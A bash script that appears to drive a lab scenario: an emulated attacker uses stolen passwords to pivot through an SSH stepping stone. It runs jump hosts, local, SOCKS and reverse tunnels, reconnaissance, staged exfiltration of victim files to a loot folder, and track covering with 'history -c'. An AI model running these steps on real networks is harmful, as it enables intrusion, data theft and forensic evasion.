#!/bin/bash
# stepstone-attacker.sh - the workload of the `stepstone` scenario.
#
# The attacker sits on the outside network and can reach only the stepping
# stone ("stone", whose account STONE_USER / STONE_PASSWORD it has stolen);
# the victim ("victim", account VICTIM_USER / VICTIM_PASSWORD) is on the
# inside network, which only the stone joins. Every hop is OpenSSH. The
# attack comes from TASK (one per subscenario):
#
#   interactive-chain    an interactive login shell on the stone (ssh -tt);
#                        there the attacker types the STONE_COMMANDS, then
#                        `ssh VICTIM_USER@victim` and the victim's password,
#                        the VICTIM_COMMANDS, `exit`, optionally covers its
#                        tracks (COVER_TRACKS), and `exit` again
#   jump                 the stone as a jump host (JUMP_METHOD: proxyjump,
#                        i.e. -J with both passwords from the askpass
#                        helper; or proxycommand, `ssh -W %h:%p stone` under
#                        a nested sshpass), then ACTION on the victim
#   local-forward        a master connection to the stone with
#                        -L 127.0.0.1:LOCAL_PORT:victim:22, then ACTION
#                        through 127.0.0.1:LOCAL_PORT
#   socks-proxy          a master connection with -D 127.0.0.1:LOCAL_PORT,
#                        then TOOL through that SOCKS proxy: ssh-exec,
#                        ssh-shell or scp (ProxyCommand `nc -X 5`), or curl
#                        (SOCKS: socks5-hostname or socks4a) fetching the
#                        victim's files from its web server on HTTP_PORT
#   reverse-tunnel       the attacker's own sshd (ATTACKER_USER /
#                        ATTACKER_PASSWORD); in a shell on the stone it types
#                        `ssh -f -N -M -R REMOTE_PORT:victim:22 ...@attacker`
#                        and its own password, then runs ACTION through its
#                        127.0.0.1:REMOTE_PORT, then closes the tunnel
#   staged-exfiltration  in a shell on the stone it copies the victim's
#                        files to /tmp/.STAGE_DIR (STAGE_METHOD: scp, or tar
#                        over ssh), downloads them from the stone with scp
#                        (a second connection, the shell still open), and,
#                        if CLEANUP is yes, removes the folder in the shell
#
# ACTION (on the victim, end to end through the tunnel): exec (one ssh
# connection, a ControlMaster, with a channel per command of
# VICTIM_COMMANDS), shell (an interactive shell,
# the commands typed key by key) or scp (download every file of the
# victim's home). HOST_KEY_PROMPT says how ssh typed on the stone meets the
# unknown host key: answer-yes (the prompt is answered "yes") or option
# (-o StrictHostKeyChecking=no typed on the command line).
#
# Typing into a terminal is key by key, TYPING seconds per key; between
# actions the attacker thinks THINK seconds. The attacker's own ssh prefers
# OUTER_KEX / OUTER_CIPHER towards the stone and INNER_KEX / INNER_CIPHER
# towards the victim (~/.ssh/config, `^` at the head of the default lists).
#
# Afterwards the outcome is checked: every connection authenticated with
# the password and negotiated the drawn algorithms (ssh -v logs); each
# command printed what it must (the file commands read VICTIM_FILE; the
# victim's files are mounted read-only at /expected only for this check);
# downloads equal the victim's files byte for byte. Exit 0 when the attack
# played out as designed, 1 otherwise, with the logs on stderr.
set -euo pipefail

: "${TASK:?TASK must name the attack}"
: "${STONE_USER:?}" "${STONE_PASSWORD:?}" "${VICTIM_USER:?}" "${VICTIM_PASSWORD:?}"
STONE=stone
THINK=${THINK:-0.5}
TYPING=${TYPING:-0.05}
EXPECTED=/expected
LOOT=/root/loot
LOGS=/tmp/stepstone
export TERM=xterm        # as from a terminal emulator; sent with pty requests

mkdir -p "$LOOT" "$LOGS" /root/.ssh
chmod 700 /root/.ssh
cd /root

# Progress lines with the time (bash builtins only: no process per line).
note() {
    local t
    printf -v t '%(%T)T' -1
    echo "stepstone-attacker: $t.${EPOCHREALTIME#*.} $*"
}
fail() {
    echo "stepstone-attacker: FAILED ($TASK): $*" >&2
    for f in "$LOGS"/*; do
        [ -f "$f" ] || continue
        case "$f" in *.txt | *.pw) continue ;; esac
        echo "---- $f ----" >&2
        head -c 20000 "$f" | tr -d '\r' >&2
        echo >&2
    done
    exit 1
}
need_var() { [ -n "${!1:-}" ] || fail "$1 must be set for task $TASK"; }
# Sleeping without a process per pause (the typing sleeps once per key): a
# read that times out on a pipe nobody writes to.
exec {NAP_FD}<> <(:)
nap() { read -r -t "$1" -u "$NAP_FD" _ || true; }
think() { nap "$THINK"; }

# ---- the victim's files (for checks) ---------------------------------------
safe_name() { [[ $1 =~ ^[A-Za-z0-9._-]+$ ]] || fail "unexpected name '$1'"; }
mapfile -t victim_files < <(find "$EXPECTED" -maxdepth 1 -type f -printf '%f\n' 2>/dev/null | LC_ALL=C sort)
[ ${#victim_files[@]} -gt 0 ] || fail "no victim files under $EXPECTED"
for f in "${victim_files[@]}"; do safe_name "$f"; done
FILE=${VICTIM_FILE:-${victim_files[0]}}
safe_name "$FILE"
[ -f "$EXPECTED/$FILE" ] || fail "VICTIM_FILE $FILE is not one of the victim's files"
for u in "$STONE_USER" "$VICTIM_USER" "${ATTACKER_USER:-x}"; do
    [[ $u =~ ^[a-z][a-z0-9_-]*$ ]] || fail "unexpected user name '$u'"
done

# ---- the attacker's ssh configuration --------------------------------------
# Host keys are accepted without a prompt and not remembered; each hop
# prefers its drawn algorithms. "victim" and "127.0.0.1" (a forwarded port)
# are both the victim.
{
    echo "Host $STONE"
    echo "    User $STONE_USER"
    [ -z "${OUTER_KEX:-}" ] || echo "    KexAlgorithms ^$OUTER_KEX"
    [ -z "${OUTER_CIPHER:-}" ] || echo "    Ciphers ^$OUTER_CIPHER"
    echo "Host victim 127.0.0.1"
    echo "    User $VICTIM_USER"
    [ -z "${INNER_KEX:-}" ] || echo "    KexAlgorithms ^$INNER_KEX"
    [ -z "${INNER_CIPHER:-}" ] || echo "    Ciphers ^$INNER_CIPHER"
    echo "Host *"
    echo "    StrictHostKeyChecking no"
    echo "    UserKnownHostsFile /dev/null"
    echo "    ConnectTimeout 30"
} >/root/.ssh/config
chmod 600 /root/.ssh/config

# ---- commands --------------------------------------------------------------
# The command line a key stands for.
remote_command() {
    case "$1" in
    whoami) echo "whoami" ;;
    id) echo "id" ;;
    hostname) echo "hostname" ;;
    uname) echo "uname -a" ;;
    ls) echo "ls -1" ;;
    ls-la) echo "ls -la" ;;
    find) echo "find . -maxdepth 1 -name '*.txt'" ;;
    cat) echo "cat $FILE" ;;
    head) echo "head -n 3 $FILE" ;;
    sha256sum) echo "sha256sum $FILE" ;;
    passwd) echo "cat /etc/passwd" ;;
    hosts) echo "cat /etc/hosts" ;;
    getent) echo "getent hosts victim" ;;
    ip) echo "hostname -I" ;;
    arp) echo "cat /proc/net/arp" ;;
    history) echo "cat ~/.bash_history" ;;
    ps) echo "ps aux" ;;
    w) echo "w" ;;
    df) echo "df -h" ;;
    *) return 1 ;;
    esac
}

# What a key's output must contain on HOST as USER, one needle per line;
# "re:" starts an extended regular expression.
needles() {
    local key=$1 host=$2 user=$3 f
    case "$key" in
    whoami) echo "$user" ;;
    id) printf 'uid=\n(%s)\n' "$user" ;;
    hostname) echo "re:(^|[^@])$host\$" ;;
    uname) echo "Linux $host " ;;
    ls | ls-la) printf '%s\n' "${victim_files[@]}" ;;
    find) for f in "${victim_files[@]}"; do echo "./$f"; done ;;
    cat | head) head -n 1 "$EXPECTED/$FILE" | cut -c1-60 ;;
    sha256sum) (cd "$EXPECTED" && sha256sum "$FILE") ;;
    passwd) echo "$user:x:" ;;
    hosts) echo "re:^[0-9.]+[[:space:]]+$host" ;;
    getent) echo "re:^[0-9.]+[[:space:]]+victim" ;;
    ip) getent hosts "$STONE" | awk '{ print $1 }' ;; # the stone's outside address
    arp) echo "HW address" ;;
    history) echo "ssh $VICTIM_USER@victim" ;;
    ps) echo "sshd" ;;
    w) echo "load average" ;;
    df) echo "Filesystem" ;;
    *) return 1 ;;
    esac
}

# Check that OUT (a file, CRs stripped here) holds the needles of every key
# in KEYS as run on HOST by USER.
check_outputs() {
    local out=$1 host=$2 user=$3 keys=$4 key n clean=$1.txt
    tr -d '\r' <"$out" >"$clean"
    for key in $keys; do
        while IFS= read -r n; do
            [ -z "$n" ] && continue
            if [[ $n == re:* ]]; then
                grep -qE -- "${n#re:}" "$clean"
            else
                grep -qF -- "$n" "$clean"
            fi || fail "$host: the output of '$(remote_command "$key")' lacks '$n' ($out)"
        done < <(needles "$key" "$host" "$user")
    done
}

check_keys() {
    local key
    for key in $1; do remote_command "$key" >/dev/null || fail "unknown command key '$key'"; done
}

# Check an ssh -v log: authenticated to DEST (a name, or a regex) with the
# password, and (if given) KEX and CIPHER negotiated by one of its
# connections (a log may hold two: a jump connection and the session).
check_connection() {
    local log=$1 dest=$2 kex=${3:-} cipher=${4:-} clean=$1.txt
    tr -d '\r' <"$log" >"$clean"
    grep -q '^debug1: Remote protocol version 2.0, remote software version OpenSSH' "$clean" ||
        fail "$log: no OpenSSH banner"
    grep -qE "^Authenticated to $dest .*using \"password\"" "$clean" ||
        fail "$log: not authenticated to $dest with the password"
    [ -z "$kex" ] || grep -qxF "debug1: kex: algorithm: $kex" "$clean" ||
        fail "$log: key exchange $kex not negotiated"
    [ -z "$cipher" ] || grep -qE "^debug1: kex: client->server cipher: $cipher MAC" "$clean" ||
        fail "$log: cipher $cipher not negotiated"
}

check_loot() {
    local f got
    for f in "${victim_files[@]}"; do
        [ -f "$LOOT/$f" ] || fail "$f was not exfiltrated"
        cmp -s "$LOOT/$f" "$EXPECTED/$f" || fail "$f differs from the victim's copy"
    done
    got=$(find "$LOOT" -maxdepth 1 -type f | wc -l)
    [ "$got" -eq ${#victim_files[@]} ] || fail "$got files in the loot, not ${#victim_files[@]}"
}

# ---- passwords -------------------------------------------------------------
# AUTH PW COMMAND...: run an OpenSSH command whose password prompts are
# answered by sshpass (one prompt, PW) or by the askpass helper (any
# number of prompts, each answered with the password of the host it names).
authed() {
    local auth=$1 pw=$2
    shift 2
    case "$auth" in
    sshpass) SSHPASS=$pw sshpass -e "$@" ;;
    askpass) SSH_ASKPASS=/usr/local/bin/stepstone-askpass SSH_ASKPASS_REQUIRE=force "$@" ;;
    *) fail "unknown password helper '$auth'" ;;
    esac
}

# ---- interactive terminals -------------------------------------------------
# A session is an `ssh -tt` in the background whose keyboard is a fifo and
# whose screen is a transcript file.
declare -A S_FD S_PID S_OFF
session_open() { # NAME AUTH PW SSH-ARGS...
    local name=$1 auth=$2 pw=$3 keys=$LOGS/$1.keys fd
    shift 3
    mkfifo "$keys"
    : >"$LOGS/$name.out"
    authed "$auth" "$pw" ssh -v -tt "$@" <"$keys" >"$LOGS/$name.out" 2>"$LOGS/$name.log" &
    S_PID[$name]=$!
    exec {fd}>"$keys"
    S_FD[$name]=$fd
    note "session $name opened: ssh -tt $*"
}
# Wait until ERE appears on session NAME's screen after what the earlier
# expects consumed, as expect(1) does, and consume through it (30 s at
# most). Builtins only: the loop polls ten times a second.
expect_next() {
    local name=$1 ere=$2 what=$3 off=${S_OFF[$1]:-0} screen rest head k alive=1
    for ((k = 0; k < 300; k++)); do
        screen=''
        IFS= read -r -d '' screen <"$LOGS/$name.out" || true
        rest=${screen:off}
        if [[ $rest =~ $ere ]]; then
            head=${rest%%"${BASH_REMATCH[0]}"*}
            S_OFF[$name]=$((off + ${#head} + ${#BASH_REMATCH[0]}))
            return 0
        fi
        # One last look after the session ended.
        [ "$alive" -eq 1 ] || break
        kill -0 "${S_PID[$name]}" 2>/dev/null || alive=0
        nap 0.1
    done
    fail "session $name: no $what"
}
# Type a line key by key, then Enter (a carriage return).
type_keys() {
    local fd=${S_FD[$1]} line=$2 j
    for ((j = 0; j < ${#line}; j++)); do
        printf '%s' "${line:j:1}" >&"$fd"
        nap "$TYPING"
    done
    printf '\r' >&"$fd"
}
type_line() {
    note "$1\$ $2"
    type_keys "$1" "$2"
}
type_secret() {
    note "$1: (password typed)"
    type_keys "$1" "$2"
}
session_close() {
    local name=$1 rc=0 fd=${S_FD[$1]}
    for _ in $(seq 100); do kill -0 "${S_PID[$name]}" 2>/dev/null || break; nap 0.1; done
    exec {fd}>&-
    wait "${S_PID[$name]}" || rc=$?
    [ "$rc" -eq 0 ] || fail "session $name exited $rc"
    note "session $name closed"
}
# Debian's bash prompt "user@host:dir$ " (the xterm title it also sets has a
# space after the colon, so it does not count).
prompt() { echo "$1@$2:[^ ]*[\$#] "; }
STONE_PROMPT=$(prompt "$STONE_USER" stone)
VICTIM_PROMPT=$(prompt "$VICTIM_USER" victim)

# On the stone's shell (session NAME): `ssh`/`scp` to HOST that asks for
# the password of USER (PW), meeting the unknown host key per
# HOST_KEY_PROMPT. Types the command line (with HKOPT where the option is
# used), answers the prompts; returns once the password is typed.
HKOPT=
case "${HOST_KEY_PROMPT:-option}" in
option) HKOPT="-o StrictHostKeyChecking=no " ;;
answer-yes) ;;
*) fail "HOST_KEY_PROMPT must be answer-yes or option, not '$HOST_KEY_PROMPT'" ;;
esac
typed_login() {
    local name=$1 line=$2 user=$3 host=$4 pw=$5
    type_line "$name" "$line"
    if [ -z "$HKOPT" ]; then
        expect_next "$name" "continue connecting" "host key prompt for $host"
        think
        type_line "$name" yes
    fi
    expect_next "$name" "$user@$host's password: " "password prompt of $user@$host"
    think
    type_secret "$name" "$pw"
}

# Run the command KEYS in session NAME at PROMPT, one by one.
typed_commands() {
    local name=$1 prompt=$2 key
    for key in $3; do
        think
        type_line "$name" "$(remote_command "$key")"
        expect_next "$name" "$prompt" "prompt after '$key'"
    done
}

# Whether ADDR:PORT (ADDR in /proc/net/tcp's hex, e.g. 0100007F for
# 127.0.0.1) listens here; builtins only.
listening() {
    local tcp='' entry
    printf -v entry '%s:%04X' "$1" "$2"
    IFS= read -r -d '' tcp </proc/net/tcp || true
    [[ $tcp == *" $entry 00000000:0000 0A "* ]]
}
# Wait until 127.0.0.1:PORT listens here (20 s at most).
wait_listen() {
    for _ in $(seq 200); do
        listening 0100007F "$1" && return 0
        nap 0.1
    done
    fail "nothing listens on 127.0.0.1:$1"
}

# ---- the second hop: the attacker's own session to the victim --------------
# ROUTE_AUTH, ROUTE_OPTS and ROUTE_HOST say how the attacker's ssh reaches
# the victim's sshd through the tunnel; ROUTE_DEST is the name the ssh -v
# log reports it authenticated to.
ROUTE_AUTH=sshpass
ROUTE_OPTS=()
ROUTE_HOST=victim
ROUTE_DEST=victim
hop_action() {
    local action=$1 key i=0 rc cmd
    case "$action" in
    exec)
        # One connection to the victim (a ControlMaster), a channel per command.
        think
        mux_open victim "$ROUTE_AUTH" "$VICTIM_PASSWORD" "${ROUTE_OPTS[@]}" "$ROUTE_HOST"
        check_connection "$LOGS/victim.log" "$ROUTE_DEST" "${INNER_KEX:-}" "${INNER_CIPHER:-}"
        for key in $VICTIM_COMMANDS; do
            i=$((i + 1))
            think
            cmd=$(remote_command "$key")
            note "exec on the victim: $cmd"
            rc=0
            ssh -S "${M_CTL[victim]}" -n "$ROUTE_HOST" "$cmd" >"$LOGS/exec-$i.out" 2>"$LOGS/exec-$i.log" || rc=$?
            [ "$rc" -eq 0 ] || fail "'$cmd' on the victim exited $rc"
            check_outputs "$LOGS/exec-$i.out" victim "$VICTIM_USER" "$key"
        done
        think
        mux_close victim
        ;;
    shell)
        think
        session_open hop "$ROUTE_AUTH" "$VICTIM_PASSWORD" "${ROUTE_OPTS[@]}" "$ROUTE_HOST"
        expect_next hop "$VICTIM_PROMPT" "victim prompt"
        typed_commands hop "$VICTIM_PROMPT" "$VICTIM_COMMANDS"
        think
        type_line hop exit
        session_close hop
        check_connection "$LOGS/hop.log" "$ROUTE_DEST" "${INNER_KEX:-}" "${INNER_CIPHER:-}"
        check_outputs "$LOGS/hop.out" victim "$VICTIM_USER" "$VICTIM_COMMANDS"
        ;;
    scp)
        think
        note "scp of the victim's files"
        rc=0
        authed "$ROUTE_AUTH" "$VICTIM_PASSWORD" scp -v "${ROUTE_OPTS[@]}" "$ROUTE_HOST:*.txt" "$LOOT/" \
            2>"$LOGS/scp.log" || rc=$?
        [ "$rc" -eq 0 ] || fail "scp from the victim exited $rc"
        check_connection "$LOGS/scp.log" "$ROUTE_DEST" "${INNER_KEX:-}" "${INNER_CIPHER:-}"
        check_loot
        ;;
    *) fail "ACTION must be exec, shell or scp, not '$action'" ;;
    esac
    note "$action on the victim done"
}

# A master connection NAME (ssh -M -N, OpenSSH's ControlMaster) in the
# background until mux_close: the one to the stone carries the forwards,
# the one to the victim the command channels. The last argument is the host.
declare -A M_PID M_CTL M_HOST
mux_open() {
    local name=$1 auth=$2 pw=$3
    shift 3
    M_CTL[$name]=/tmp/stepstone-mux-$name
    M_HOST[$name]=${!#}
    note "master connection $name: ssh -M -N $*"
    authed "$auth" "$pw" ssh -v -M -S "${M_CTL[$name]}" -N -o ExitOnForwardFailure=yes "$@" \
        2>"$LOGS/$name.log" &
    M_PID[$name]=$!
    # The control socket appears once the connection is up.
    for _ in $(seq 400); do
        [ -S "${M_CTL[$name]}" ] && break
        kill -0 "${M_PID[$name]}" 2>/dev/null || fail "the master connection $name ended early"
        nap 0.1
    done
    ssh -S "${M_CTL[$name]}" -O check "${M_HOST[$name]}" 2>/dev/null ||
        fail "the master connection $name did not come up"
}
mux_close() {
    local name=$1
    ssh -S "${M_CTL[$name]}" -O exit "${M_HOST[$name]}" 2>/dev/null ||
        fail "the master connection $name did not exit on request"
    for _ in $(seq 100); do kill -0 "${M_PID[$name]}" 2>/dev/null || break; nap 0.1; done
    kill -0 "${M_PID[$name]}" 2>/dev/null && fail "the master connection $name did not end"
    wait "${M_PID[$name]}" || true # a master told to exit ends with 255
    note "master connection $name closed"
}
master_open() {
    mux_open stone sshpass "$STONE_PASSWORD" "$@" "$STONE"
    check_connection "$LOGS/stone.log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
}
master_close() { mux_close stone; }

# ---- the attacks -----------------------------------------------------------
interactive_chain() {
    need_var STONE_COMMANDS
    need_var VICTIM_COMMANDS
    local stone_cmds=$STONE_COMMANDS cover=${COVER_TRACKS:-none}
    [ "$stone_cmds" = none ] && stone_cmds=
    check_keys "$stone_cmds"
    check_keys "$VICTIM_COMMANDS"
    session_open outer sshpass "$STONE_PASSWORD" "$STONE"
    expect_next outer "$STONE_PROMPT" "stone prompt"
    typed_commands outer "$STONE_PROMPT" "$stone_cmds"
    think
    typed_login outer "ssh ${HKOPT}$VICTIM_USER@victim" "$VICTIM_USER" victim "$VICTIM_PASSWORD"
    expect_next outer "$VICTIM_PROMPT" "victim prompt"
    typed_commands outer "$VICTIM_PROMPT" "$VICTIM_COMMANDS"
    think
    type_line outer exit
    expect_next outer "$STONE_PROMPT" "stone prompt after leaving the victim"
    case "$cover" in
    none) ;;
    history | known-hosts | both)
        if [ "$cover" != history ]; then
            think
            type_line outer "rm -f ~/.ssh/known_hosts"
            expect_next outer "$STONE_PROMPT" "stone prompt after rm"
        fi
        if [ "$cover" != known-hosts ]; then
            think
            type_line outer "history -c"
            expect_next outer "$STONE_PROMPT" "stone prompt after history -c"
        fi
        ;;
    *) fail "COVER_TRACKS must be none, history, known-hosts or both, not '$cover'" ;;
    esac
    think
    type_line outer exit
    session_close outer
    check_connection "$LOGS/outer.log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
    check_outputs "$LOGS/outer.out" stone "$STONE_USER" "$stone_cmds"
    check_outputs "$LOGS/outer.out" victim "$VICTIM_USER" "$VICTIM_COMMANDS"
    note "interactive chain done: stone ($stone_cmds), victim ($VICTIM_COMMANDS), cover tracks: $cover"
}

jump() {
    need_var JUMP_METHOD
    need_var VICTIM_COMMANDS
    check_keys "$VICTIM_COMMANDS"
    case "$JUMP_METHOD" in
    proxyjump)
        ROUTE_AUTH=askpass
        ROUTE_OPTS=(-o "ProxyJump=$STONE")
        ;;
    proxycommand)
        # The stone's password for the inner sshpass, from a file (not the
        # command line); the outer sshpass types the victim's.
        (umask 077 && printf '%s\n' "$STONE_PASSWORD" >"$LOGS/stone.pw")
        ROUTE_AUTH=sshpass
        ROUTE_OPTS=(-o "ProxyCommand=sshpass -f $LOGS/stone.pw ssh -v -W %h:%p $STONE")
        ;;
    *) fail "JUMP_METHOD must be proxyjump or proxycommand, not '$JUMP_METHOD'" ;;
    esac
    ROUTE_DEST='victim \(via proxy\)'
    hop_action "${ACTION:?}"
    # The jump connections' logs are in the same files: check them too.
    local log
    for log in "$LOGS"/victim.log "$LOGS"/hop.log "$LOGS"/scp.log; do
        [ -f "$log" ] || continue
        check_connection "$log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
    done
    note "jump ($JUMP_METHOD) done"
}

local_forward() {
    need_var LOCAL_PORT
    need_var VICTIM_COMMANDS
    check_keys "$VICTIM_COMMANDS"
    master_open -L "127.0.0.1:$LOCAL_PORT:victim:22"
    wait_listen "$LOCAL_PORT"
    ROUTE_OPTS=(-o "Port=$LOCAL_PORT")
    ROUTE_HOST=127.0.0.1
    ROUTE_DEST=127.0.0.1
    hop_action "${ACTION:?}"
    think
    master_close
    note "local forward done"
}

socks_proxy() {
    need_var LOCAL_PORT
    need_var VICTIM_COMMANDS
    check_keys "$VICTIM_COMMANDS"
    master_open -D "127.0.0.1:$LOCAL_PORT"
    wait_listen "$LOCAL_PORT"
    ROUTE_OPTS=(-o "ProxyCommand=nc -X 5 -x 127.0.0.1:$LOCAL_PORT %h %p")
    ROUTE_DEST='victim \(via proxy\)'
    case "${TOOL:?}" in
    ssh-exec) hop_action exec ;;
    ssh-shell) hop_action shell ;;
    scp) hop_action scp ;;
    curl)
        need_var HTTP_PORT
        local socks=${SOCKS:-socks5-hostname} f rc
        case "$socks" in socks5-hostname | socks4a) ;; *) fail "SOCKS must be socks5-hostname or socks4a, not '$socks'" ;; esac
        for f in "${victim_files[@]}"; do
            think
            note "curl --$socks http://victim:$HTTP_PORT/$f"
            rc=0
            curl -sS --fail --max-time 15 "--$socks" "127.0.0.1:$LOCAL_PORT" -o "$LOOT/$f" \
                "http://victim:$HTTP_PORT/$f" 2>"$LOGS/curl-$f.log" || rc=$?
            [ "$rc" -eq 0 ] || fail "curl of $f through the SOCKS proxy exited $rc"
        done
        check_loot
        ;;
    *) fail "TOOL must be ssh-exec, ssh-shell, scp or curl, not '$TOOL'" ;;
    esac
    think
    master_close
    note "socks proxy ($TOOL) done"
}

# The attacker's own sshd, the far end of the reverse tunnel.
start_sshd() {
    need_var ATTACKER_USER
    need_var ATTACKER_PASSWORD
    local home=/home/$ATTACKER_USER
    ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
    if id -u "$ATTACKER_USER" >/dev/null 2>&1; then
        awk -F: -v OFS=: -v u="$ATTACKER_USER" -v h="$home" \
            '$1 == u { $6 = h; $7 = "/bin/bash" } { print }' /etc/passwd >/etc/passwd.new
        cat /etc/passwd.new >/etc/passwd
        rm -f /etc/passwd.new
        mkdir -p "$home"
    elif getent group "$ATTACKER_USER" >/dev/null 2>&1; then
        useradd --create-home --home-dir "$home" --shell /bin/bash --gid "$ATTACKER_USER" "$ATTACKER_USER"
    else
        useradd --create-home --home-dir "$home" --shell /bin/bash --user-group "$ATTACKER_USER"
    fi
    printf '%s:%s\n' "$ATTACKER_USER" "$ATTACKER_PASSWORD" | chpasswd
    mkdir -p /run/sshd
    chmod 0755 /run/sshd
    /usr/sbin/sshd -E "$LOGS/sshd.log"
    for _ in $(seq 200); do
        listening 00000000 22 && break
        nap 0.1
    done
    listening 00000000 22 || fail "the attacker's sshd does not listen"
    note "own sshd up for $ATTACKER_USER"
}

reverse_tunnel() {
    need_var REMOTE_PORT
    need_var VICTIM_COMMANDS
    check_keys "$VICTIM_COMMANDS"
    start_sshd
    local ctl=/tmp/.s$REMOTE_PORT
    session_open outer sshpass "$STONE_PASSWORD" "$STONE"
    expect_next outer "$STONE_PROMPT" "stone prompt"
    think
    typed_login outer \
        "ssh -f -N -M -S $ctl -o ExitOnForwardFailure=yes ${HKOPT}-R $REMOTE_PORT:victim:22 $ATTACKER_USER@attacker" \
        "$ATTACKER_USER" attacker "$ATTACKER_PASSWORD"
    expect_next outer "$STONE_PROMPT" "stone prompt after the tunnel"
    wait_listen "$REMOTE_PORT"
    note "reverse tunnel up on 127.0.0.1:$REMOTE_PORT"
    ROUTE_OPTS=(-o "Port=$REMOTE_PORT")
    ROUTE_HOST=127.0.0.1
    ROUTE_DEST=127.0.0.1
    hop_action "${ACTION:?}"
    think
    type_line outer "ssh -S $ctl -O exit $ATTACKER_USER@attacker"
    expect_next outer "$STONE_PROMPT" "stone prompt after closing the tunnel"
    think
    type_line outer exit
    session_close outer
    check_connection "$LOGS/outer.log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
    grep -q "Accepted password for $ATTACKER_USER" "$LOGS/sshd.log" ||
        fail "the stone did not log into the attacker's sshd"
    note "reverse tunnel done"
}

staged_exfiltration() {
    need_var STAGE_DIR
    need_var STAGE_METHOD
    [[ $STAGE_DIR =~ ^[a-z]+$ ]] || fail "unexpected STAGE_DIR '$STAGE_DIR'"
    local stage=/tmp/.$STAGE_DIR rc
    session_open outer sshpass "$STONE_PASSWORD" "$STONE"
    expect_next outer "$STONE_PROMPT" "stone prompt"
    think
    type_line outer "mkdir -p $stage"
    expect_next outer "$STONE_PROMPT" "stone prompt after mkdir"
    think
    case "$STAGE_METHOD" in
    scp) typed_login outer "scp ${HKOPT}$VICTIM_USER@victim:'*.txt' $stage/" "$VICTIM_USER" victim "$VICTIM_PASSWORD" ;;
    tar) typed_login outer "ssh ${HKOPT}$VICTIM_USER@victim 'tar czf - *.txt' > $stage/$STAGE_DIR.tgz" "$VICTIM_USER" victim "$VICTIM_PASSWORD" ;;
    *) fail "STAGE_METHOD must be scp or tar, not '$STAGE_METHOD'" ;;
    esac
    expect_next outer "$STONE_PROMPT" "stone prompt after staging"
    think
    type_line outer "ls -la $stage"
    expect_next outer "$STONE_PROMPT" "stone prompt after ls"
    # From a second terminal, while the shell stays open: fetch the stage.
    think
    note "downloading $stage from the stone"
    rc=0
    authed sshpass "$STONE_PASSWORD" scp -v "$STONE:$stage/*" "$LOOT/" 2>"$LOGS/fetch.log" || rc=$?
    [ "$rc" -eq 0 ] || fail "scp from the stone exited $rc"
    check_connection "$LOGS/fetch.log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
    if [ "$STAGE_METHOD" = tar ]; then
        tar xzf "$LOOT/$STAGE_DIR.tgz" -C "$LOOT" || fail "the staged archive does not unpack"
        rm -f "$LOOT/$STAGE_DIR.tgz"
    fi
    check_loot
    if [ "${CLEANUP:-no}" = yes ]; then
        think
        type_line outer "rm -rf $stage"
        expect_next outer "$STONE_PROMPT" "stone prompt after rm"
    fi
    think
    type_line outer exit
    session_close outer
    check_connection "$LOGS/outer.log" "$STONE" "${OUTER_KEX:-}" "${OUTER_CIPHER:-}"
    note "staged exfiltration ($STAGE_METHOD) of ${#victim_files[@]} file(s) done"
}

note "task $TASK"
case "$TASK" in
interactive-chain) interactive_chain ;;
jump) jump ;;
local-forward) local_forward ;;
socks-proxy) socks_proxy ;;
reverse-tunnel) reverse_tunnel ;;
staged-exfiltration) staged_exfiltration ;;
*) fail "unknown TASK '$TASK'" ;;
esac
note "done"
